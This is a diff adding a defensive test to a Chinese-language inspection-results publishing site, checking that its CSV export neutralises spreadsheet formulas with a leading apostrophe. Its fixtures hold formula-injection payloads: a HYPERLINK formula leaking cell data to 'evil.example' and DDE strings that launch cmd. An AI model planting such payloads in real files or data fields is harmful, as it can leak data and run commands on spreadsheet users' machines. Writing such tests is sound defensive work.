@@ -189,3 +189,49 @@ def test_the_count_follows_every_publication_and_withdrawal(client, report, staf
     notice_withdraw(notice=first, user=staff_user, reason="复核中")
     page = body(client.get(url))
     assert "共 1 条结果" in page and first.target_name not in page
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")律师事务所'
+FORMULA_FINDINGS = {
+    "=": "=1+1",
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+def test_open_data_csv_never_carries_a_formula(client, report, staff_user):
+    """/results.csv: a text a spreadsheet would run gets a leading apostrophe (docs/open-data.md);
+    the JSON and the Atom feed keep the exact text. One notice per trigger."""
+    results = list(report.results.order_by("pk"))
+    institution = results[0].inspection.institution
+    institution.name = FORMULA_NAME
+    institution.save()
+    expected = {}
+    for result, findings in zip(results, FORMULA_FINDINGS.values(), strict=False):
+        notice = notice_publish(result=result, user=staff_user)
+        current = notice_correct(notice=notice, user=staff_user, reason="-更正", findings=findings)
+        expected[current.pk] = findings
+
+    raw = body(client.get(reverse("publication:result_list_csv")))
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    for row in rows:
+        for cell in row:
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+    records = {int(r["id"]): r for r in (dict(zip(rows[0], row, strict=True)) for row in rows[1:])}
+    assert {pk: r["findings"] for pk, r in records.items()} == {
+        pk: "'" + findings for pk, findings in expected.items()
+    }
+    first = records[min(expected)]
+    assert first["target_name"] == "'" + FORMULA_NAME
+    assert first["year"].isdigit() and first["version"] == "2"  # numbers stay numbers
+
+    data = json.loads(body(client.get(reverse("publication:result_list_json"))))["results"]
+    assert {r["id"]: r["findings"] for r in data} == expected
+    assert FORMULA_NAME in {r["target_name"] for r in data}
+    assert {r["correction_reason"] for r in data} == {"-更正"}
+    feed = ET.fromstring(body(client.get(reverse("publication:result_list_atom"))).encode())
+    titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
+    assert any(t.startswith(FORMULA_NAME) for t in titles)
